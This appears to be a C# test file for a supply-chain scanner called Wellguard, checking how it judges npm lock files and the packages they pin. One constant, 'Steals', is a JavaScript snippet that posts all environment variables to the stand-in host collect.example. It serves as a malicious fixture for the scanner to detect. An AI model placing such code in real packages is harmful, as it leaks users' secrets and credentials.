using System.Text;
using Wellguard.Artifacts;
using Wellguard.Inventories;
using Wellguard.Registries.Packages;
using Wellguard.Reports;
using Wellguard.Signals;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Packages;

/// <summary>A folder of code and what its lock files pin, as one report.</summary>
public sealed class WorkspacesTests : IDisposable
{
    private const string Steals = "const https = require('https')\nconst out = https.request({ host: 'collect.example', path: '/u', method: 'POST' })\nout.write(JSON.stringify(process.env))\nout.end()\n";
    private const string Lock = """{"lockfileVersion":3,"packages":{"":{"dependencies":{"a":"1","c":"1"}},"node_modules/a":{"version":"1.0.0","dependencies":{"b":"1"}},"node_modules/b":{"version":"1.0.0"},"node_modules/c":{"version":"1.0.0"}}}""";

    private readonly string folder = Directory.CreateTempSubdirectory("wellguard-workspace-").FullName;
    private int opened;

    public void Dispose() => Directory.Delete(folder, recursive: true);

    private async Task<Report> ScanAsync(string file, string text, Func<LockedPackage, Image> open, ScanOptions? options = null, bool isFile = false)
    {
        var path = Path.Combine(folder, file);
        await File.WriteAllTextAsync(path, text, TestContext.Current.CancellationToken);
        var images = await ImageSources.OpenAsync(Target.Parse(isFile ? path : "dir:" + folder), new OpenOptions(folder), TestContext.Current.CancellationToken);
        return await Workspaces.ScanAsync(Assert.Single(images), options ?? new ScanOptions(Policy.Default, new DateOnly(2026, 1, 1)), new PackageSource((package, _) =>
        {
            Interlocked.Increment(ref opened);
            return Task.FromResult<IReadOnlyList<Image>>([open(package)]);
        }, 2), TestContext.Current.CancellationToken);
    }

    private static Image Package(LockedPackage locked, string code = "exports.a = 1\n", Registration? registration = null)
    {
        var name = locked.Purl["pkg:npm/".Length..].Split('@')[0];
        var bytes = ByteSource.OfMemory(PackageBytes.Tarball(("package/package.json", $$$$$$"""{"name":"{{{{{{name}}}}}}","version":"1.0.0"}"""), ("package/index.js", code)));
        return ImageSources.OpenAsync(bytes, name + ".tgz", new OpenOptions(Path.GetTempPath()), default).GetAwaiter().GetResult()[0] with { Registration = registration };
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_poisoned_package_blocks_the_workspace_and_the_way_to_it_is_told(bool isFile)
    {
        var report = await ScanAsync("package-lock.json", Lock, static locked => Package(locked, locked.Purl.Contains("/b@", StringComparison.Ordinal) ? Steals : "exports.a = 1\n"), isFile: isFile);
        Assert.Equal((Level.Malicious, Decision.Block, CompletenessState.Complete), (report.Verdict.Level, report.Verdict.Decision, report.Completeness.State));
        Assert.Equal(3, opened);
        var signal = report.Signals.First(signal => signal.Severity >= Severity.High);
        Assert.Equal("pkg:npm/b@1.0.0", signal.Where.Package);
        Assert.Equal(["pkg:npm/a@1.0.0", "pkg:npm/b@1.0.0"], Assert.Single(signal.DependencyPaths!));
        Assert.Contains(report.Tree.Nodes, static node => node.Label == "pkg:npm/b@1.0.0");
        Assert.All(report.Signals, one => Assert.True(one.Node is null || report.Tree.Nodes.Any(node => node.Id == one.Node)));
        Assert.All(report.Verdict.Reasons, id => Assert.Contains(report.Signals, one => one.Id == id));
        Assert.Equal(3, report.Inventory.Components.Count);
    }

    [Fact]
    public async Task Many_weak_signals_of_many_packages_are_no_attack()
    {
        var all = string.Join(',', Enumerable.Range(0, 60).Select(static number => $$$$$$"""
            "node_modules/p{{{{{{number}}}}}}":{"version":"1.0.0"}
            """));
        var report = await ScanAsync("package-lock.json", $$$$$$"""{"lockfileVersion":3,"packages":{"":{},{{{{{{all}}}}}}}}""", static locked => Package(locked, registration: new Registration { HadProvenance = true, HasProvenance = false, Publisher = "eve", EarlierPublishers = ["ada"] }));
        Assert.Equal(Level.Clean, report.Verdict.Level);
        Assert.Equal(60, report.Signals.Count(static signal => signal.Rule == "origin/dropped-provenance"));
    }

    [Fact]
    public async Task A_package_that_cannot_be_had_makes_the_report_partial_with_its_reason_told_once()
    {
        var report = await ScanAsync("package-lock.json", Lock, static locked => locked.Purl.Contains("/a@", StringComparison.Ordinal) ? Package(locked) : throw new UnreadableException("packages of npm", "no npm registry is configured"));
        Assert.Equal((Level.Unknown, Decision.Review), (report.Verdict.Level, report.Verdict.Decision));
        Assert.Equal("no npm registry is configured", Assert.Single(report.Completeness.Reasons).Why);
    }

    [Fact]
    public async Task An_error_in_one_package_costs_no_other()
    {
        var report = await ScanAsync("package-lock.json", Lock, static locked => locked.Purl.Contains("/b@", StringComparison.Ordinal) ? Package(locked, Steals) : throw new InvalidOperationException("odd"));
        Assert.Equal((Level.Malicious, CompletenessState.Partial), (report.Verdict.Level, report.Completeness.State));
    }

    [Fact]
    public async Task What_comes_from_no_registry_is_told_and_not_asked_for()
    {
        var report = await ScanAsync("package-lock.json", """{"lockfileVersion":3,"packages":{"":{},"node_modules/a":{"version":"1.0.0","resolved":"git+https://example.invalid/a.git"}}}""", static locked => Package(locked));
        Assert.Contains("taken from git+https", Assert.Single(report.Completeness.Reasons).Why, StringComparison.Ordinal);
        Assert.Equal(0, opened);
    }

    [Fact]
    public async Task An_archive_that_is_not_what_the_lock_file_pins_is_a_finding()
    {
        var report = await ScanAsync("package-lock.json", Lock, static locked => Package(locked) with { Mismatches = locked.Purl.Contains("/c@", StringComparison.Ordinal) ? [new("archive, against the lock file", "sha512:0", "sha512:1")] : [] });
        Assert.Equal(("content/lying-digest", "pkg:npm/c@1.0.0"), (report.Signals[0].Rule, report.Signals[0].Where.Package));
        Assert.Equal((CompletenessState.Partial, Level.Suspicious), (report.Completeness.State, report.Verdict.Level));
    }

    [Theory]
    [InlineData("other.json", """{"a":1}""")]
    [InlineData("notes.lock", "hello")]
    public async Task A_file_that_names_no_package_is_not_clean(string file, string text)
    {
        var report = await ScanAsync(file, text, static locked => Package(locked), isFile: true);
        Assert.Equal(Level.Unknown, report.Verdict.Level);
        Assert.Contains("neither a lock file nor a bill", Assert.Single(report.Completeness.Reasons).Why, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_second_scan_takes_kept_reports_and_gives_the_same()
    {
        var options = new ScanOptions(Policy.Default, new DateOnly(2026, 1, 1)) { CacheDirectory = Path.Combine(folder, "cache") };
        Directory.CreateDirectory(Path.Combine(folder, "made"));
        Image Kept(LockedPackage locked)
        {
            var path = Path.Combine(folder, "made", Convert.ToHexString(Encoding.UTF8.GetBytes(locked.Purl)));
            if (!File.Exists(path))
            {
                using var stream = Package(locked).Layers[0].Open(default).AsTask().GetAwaiter().GetResult();
                using var file = File.Create(path);
                stream.CopyTo(file);
            }

            return ImageSources.OpenAsync(ByteSource.OfFile(path, Wellguard.Linux.FileStamps.Of), "a.tgz", new OpenOptions(folder), default).GetAwaiter().GetResult()[0];
        }

        var first = await ScanAsync("package-lock.json", Lock, Kept, options, isFile: true);
        Assert.Equal(3, Directory.GetFiles(Path.Combine(folder, "cache/reports")).Length);
        var second = await ScanAsync("package-lock.json", Lock, Kept, options, isFile: true);
        Assert.Equal(System.Text.Json.JsonSerializer.Serialize(first with { Timings = null }), System.Text.Json.JsonSerializer.Serialize(second with { Timings = null }));
    }
}
